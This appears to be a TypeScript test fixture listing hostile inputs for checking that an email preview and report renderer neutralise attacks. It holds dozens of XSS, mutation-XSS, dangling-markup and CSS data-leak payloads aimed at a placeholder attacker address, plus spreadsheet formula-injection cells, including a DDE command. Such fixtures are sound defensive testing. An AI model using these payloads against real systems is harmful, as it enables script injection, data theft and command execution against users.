/**
 * Mails whose HTML tries to act. `JS` stands for a script that leaves a mark and tells the attacker, `AT` for the
 * attacker's address. Every row is tried against the preview in a real browser, against the document that is drawn, and
 * all together against each page of a report; a new trick is one more row here.
 */
export const hostileHtml: [name: string, html: string][] = [
  // Scripts
  ['a script', '<script>JS</script>'],
  ['a script of elsewhere', '<script src="AT/a.js"></script>'],
  ['a module', '<script type="module">JS</script><link rel="modulepreload" href="AT/m.js">'],
  ['a script in capitals, cut in two', '<scr<script>ipt>JS</scr</script>ipt><SCRIPT/x>JS</SCRIPT>'],
  ['a script behind a zero octet', '<scr\0ipt>JS</script>'],
  ['a script without an end', '<script>JS//'],
  ['speculation rules', '<script type="speculationrules">{"prefetch":[{"urls":["AT/s"]}]}</script>'],
  ['an import map', '<script type="importmap">{"imports":{"a":"AT/i.js"}}</script>'],
  // Handlers
  ['a picture that fails', '<img src=x onerror="JS"><image src=x onerror="JS">'],
  ['a picture that loads', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="JS">'],
  [
    'handlers with odd separators',
    '<img/src=x/onerror="JS"><img\x0csrc=x\x0conerror="JS"><img src=x onerror\n=\n"JS">',
  ],
  ['a body that loads', '<body onload="JS" onpageshow="JS" onhashchange="JS" onresize="JS">'],
  [
    'focus',
    '<input autofocus onfocus="JS"><a id=x tabindex=1 onfocus="JS">x</a><select autofocus onfocus="JS">',
  ],
  ['details that open', '<details open ontoggle="JS"><summary>x</summary></details>'],
  [
    'an animation that ends',
    '<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationend="JS" onanimationstart="JS">x',
  ],
  ['a transition', '<p style="transition:outline 1ms" ontransitionend="JS" tabindex=0 autofocus>x'],
  [
    'media',
    '<video src=x onerror="JS" autoplay></video><audio src="AT/a" onerror="JS"></audio><video><source src=x onerror="JS"></video>',
  ],
  ['a marquee', '<marquee onstart="JS" onfinish="JS" loop=1>x</marquee>'],
  ['a dialog', '<dialog open onclose="JS"><form method=dialog><button autofocus>x</button></form></dialog>'],
  [
    'content that is skipped',
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange="JS">x</p>',
  ],
  ['a popover', '<button popovertarget=a>x</button><p popover id=a onbeforetoggle="JS" ontoggle="JS">x</p>'],
  // SVG and MathML
  ['SVG that loads', '<svg onload="JS"><script>JS</script></svg>'],
  [
    'an animation of SVG',
    '<svg><animate onbegin="JS" attributeName=x dur=1s /><set onbegin="JS" attributeName=x /></svg>',
  ],
  [
    'an animated address',
    '<svg><a><animate attributeName=href values="javascript:JS"/><text y=20>x</text></a></svg>',
  ],
  [
    'SVG that uses another',
    '<svg><use href="AT/u.svg#a"/><use xlink:href="data:image/svg+xml,<svg id=a onload=JS>#a"/></svg>',
  ],
  ['a picture of SVG', '<svg><image href="AT/i.png" onerror="JS"/><feImage href="AT/f.png"/></svg>'],
  [
    'a foreign object',
    '<svg><foreignObject><iframe src="AT/f" onload="JS"></iframe><body onload="JS"></foreignObject></svg>',
  ],
  [
    'SVG in a picture',
    '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22JS%22%3E%3Cimage href=%22AT/x%22/%3E%3C/svg%3E">',
  ],
  [
    'a handler of SVG',
    '<svg><handler type="text/ecmascript" ev:event="load">JS</handler><a xlink:href="javascript:JS"><text y=9>x</text></a></svg>',
  ],
  [
    'MathML',
    '<math><maction actiontype="statusline#JS" xlink:href="javascript:JS">x</maction><mi href="javascript:JS">x</mi></math>',
  ],
  ['an XML data island', '<xml id=i><x><c><![CDATA[<img src=x onerror="JS">]]></c></x></xml>'],
  // Going elsewhere
  ['a refresh', '<meta http-equiv="refresh" content="0;url=AT/r">'],
  [
    'a refresh to a script',
    '<meta http-equiv="refresh" content="0;url=javascript:JS"><meta http-equiv="refresh" content="0;url=data:text/html,<script>JS</script>">',
  ],
  [
    'a policy of its own',
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><script>JS</script>',
  ],
  ['a cookie', '<meta http-equiv="Set-Cookie" content="a=b">'],
  ['a base', '<base href="AT/" target="_top"><img src="b.png"><a href="x">x</a>'],
  [
    'a form that submits',
    '<form id=f action="AT/f"><input name=a value=b></form><button form=f autofocus>x</button>',
  ],
  ['a form around the page', '<form action="AT/f"><textarea name=page>'],
  [
    'a button that goes elsewhere',
    '<form><button formaction="javascript:JS">x</button><input type=image src="AT/i" formaction="AT/g"></form>',
  ],
  ['an "is index"', '<isindex action="AT/i" prompt=x>'],
  ['a frame', '<iframe src="AT/f"></iframe><frameset><frame src="AT/g"></frameset>'],
  ['a frame with a document', '<iframe srcdoc="<script>JS</script>"></iframe>'],
  [
    'a frame with a script',
    '<iframe src="javascript:JS"></iframe><iframe src="data:text/html,<script>JS</script>"></iframe>',
  ],
  ['a fenced frame and a portal', '<fencedframe src="AT/f"></fencedframe><portal src="AT/p"></portal>'],
  [
    'objects',
    '<object data="AT/o"></object><embed src="AT/e"><object data="javascript:JS"></object><applet code="AT/a"></applet>',
  ],
  [
    'an object with a document',
    '<object data="data:text/html,<script>JS</script>" type="text/html"></object>',
  ],
  // Loading
  [
    'style sheets',
    '<link rel="stylesheet" href="AT/s.css"><style>@import "AT/i.css";@import url(AT/j.css);</style>',
  ],
  [
    'hints',
    '<link rel=prefetch href="AT/p"><link rel=preload as=script href="AT/l"><link rel=preconnect href="AT/"><link rel=dns-prefetch href="AT/"><link rel=prerender href="AT/r">',
  ],
  [
    'icons and manifests',
    '<link rel=icon href="AT/i"><link rel=manifest href="AT/m"><link rel="apple-touch-icon" href="AT/t">',
  ],
  [
    'pictures in CSS',
    '<style>body{background:url(AT/b);cursor:url(AT/c),auto}li{list-style:url(AT/l)}p::before{content:url(AT/p)}</style><li>x<p>x',
  ],
  ['a font', '<style>@font-face{font-family:f;src:url(AT/f.woff2)}p{font-family:f}</style><p>x'],
  [
    'values that are read by CSS',
    '<style>input[value^=s]{background:url(AT/s)}input{background:url(AT/any)}</style><input value="secret">',
  ],
  [
    'every kind of picture',
    '<img src="AT/1" srcset="AT/2 2x"><picture><source srcset="AT/3"></picture><table background="AT/4"><td background="AT/5">x</table><video poster="AT/6"></video><input type=image src="AT/7">',
  ],
  ['a ping', '<a href="AT/h" ping="AT/p">x</a>'],
  [
    'tracks',
    '<video src="AT/v" autoplay muted><track default src="AT/t"></video><audio src="AT/a" preload></audio>',
  ],
  ['dangling markup', '<img src="AT/leak?'],
  ['dangling CSS', '<style>@import "AT/leak?'],
  ['a dangling form', '<form action="AT/f"><button>x</button><select name=a><option>'],
  // CSS that acts
  [
    'expressions and bindings',
    '<p style="width:expression(JS);behavior:url(AT/h.htc);-moz-binding:url(AT/b.xml#a)">x',
  ],
  [
    'a script in an address of CSS',
    '<p style="background:url(javascript:JS);background:url(\'data:text/html,<script>JS</script>\')">x',
  ],
  [
    'a style that ends itself',
    '<style></style><img src=x onerror="JS"></style><style>/*</style><script>JS</script>*/</style>',
  ],
  [
    'CSS over everything',
    '<style>*{position:fixed!important;inset:0;z-index:2147483647}</style><a href="AT/c">x</a>',
  ],
  // Addresses
  ['javascript:', '<a href="javascript:JS">x</a><area href="javascript:JS"><a href="JaVaScRiPt:JS">x</a>'],
  [
    'javascript: in disguise',
    '<a href="java&#10;script:JS">x</a><a href="&#1;javascript:JS">x</a><a href="java&Tab;script&colon;JS">x</a><a href="&#x6A;avascript:JS">x</a>',
  ],
  [
    'vbscript: and livescript:',
    '<a href="vbscript:JS">x</a><img src="livescript:JS"><img lowsrc="javascript:JS" dynsrc="javascript:JS">',
  ],
  [
    'data: as a link',
    '<a href="data:text/html,<script>JS</script>">x</a><a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==">x</a>',
  ],
  ['blob: and filesystem:', '<a href="blob:null/1">x</a><iframe src="filesystem:AT/t"></iframe>'],
  // Markup that is read twice
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>'],
  [
    'a template',
    '<template><script>JS</script></template><div><template shadowrootmode=open><img src=x onerror="JS"><script>JS</script></template></div>',
  ],
  [
    'MathML and a style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
  ],
  ['SVG and a style', '<svg></p><style><a id="</style><img src=1 onerror=JS>">'],
  [
    'a form in a form',
    '<form><div></form><form id=x><math><mtext></form><form><mglyph><style></math><img src onerror=JS>',
  ],
  [
    'a select',
    '<select><style></select><img src=x onerror=JS></style></select><select><template><style><!--</select><script>JS</script>',
  ],
  [
    'a comment that ends oddly',
    '<!--><script>JS</script>--><!--!><img src=x onerror="JS">--><!--x--!><script>JS</script>',
  ],
  ['CDATA', '<![CDATA[<script>JS</script>]]><svg><![CDATA[><img src=x onerror="JS">]]></svg>'],
  [
    'conditional comments',
    '<!--[if true]><script>JS</script><![endif]--><![if true]><img src=x onerror="JS"><![endif]>',
  ],
  [
    'elements of text',
    '<textarea></textarea><script>JS</script><title></title><img src=x onerror="JS"><xmp></xmp><script>JS</script><noembed><img title="</noembed><img src onerror=JS>"></noembed>',
  ],
  ['plain text at the end', '<plaintext></plaintext><script>JS</script>'],
  [
    'broken attributes',
    '<img alt="`><script>JS</script>"src=x><p title=`x"onmouseover=JS x=`>x</p><img """><script>JS</script>">',
  ],
  [
    'a processing instruction',
    '<?xml version="1.0"?><?import implementation="AT/x"?><t:set attributeName="innerHTML" to="<script>JS</script>">',
  ],
  // Names that shadow
  [
    'names of the document',
    '<img name=body><form name=cookie><input name=parentElement><input name=attributes></form><a id=location href="AT/l"></a>',
  ],
  [
    'a global of the page',
    '<a id=config><a id=config name=url href="javascript:JS"></a><form id=self><output name=top>x</output></form>',
  ],
  // Letters
  [
    'directions and invisible letters',
    '<p>\u202e\u2066<script>JS</script>\u2069\u200b\ufeff<scr\u0131pt>JS</scr\u0131pt><\u017fcript>JS</\u017fcript>',
  ],
  ['line separators', '<p title="\u2028</script><script>JS</script>">\u2028\u2029x'],
  [
    'another charset',
    '<meta charset="utf-7">+ADw-script+AD4-JS+ADw-/script+AD4-<meta charset="iso-2022-jp">\x1b$B<img src=x onerror="JS">',
  ],
  [
    'templates of programs',
    '{{constructor.constructor("JS")()}}\u0024{JS}<%= JS %>#{JS}[[JS]]<div v-html="JS" x-on:load="JS" ng-init="JS" data-ng-app>x</div>',
  ],
]

/** Names, subjects and the like, wherever they are shown. */
export const hostileTexts = [
  '</title><script>JS</script>',
  '"><img src=x onerror="JS">',
  "'onmouseover='JS",
  '--><script>JS</script><!--',
  ']]><svg onload="JS">',
  '</script><script>JS</script>',
  '</style><script>JS</script>',
  '\u2028JS\u2029',
  '\u202eJS',
  '{{constructor.constructor("JS")()}}',
  'javascript:JS',
  '&lt;script&gt;JS&lt;/script&gt;',
  '\u0000\u001b[31mJS',
]

/** Cells that a spreadsheet would run. */
export const formulas = [
  '=HYPERLINK("AT/c","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
]

/** `js` must not hold quotation marks: it stands in attributes of both kinds. */
export const filled = (text: string, js: string, at: string) => text.replaceAll('JS', js).replaceAll('AT', at)
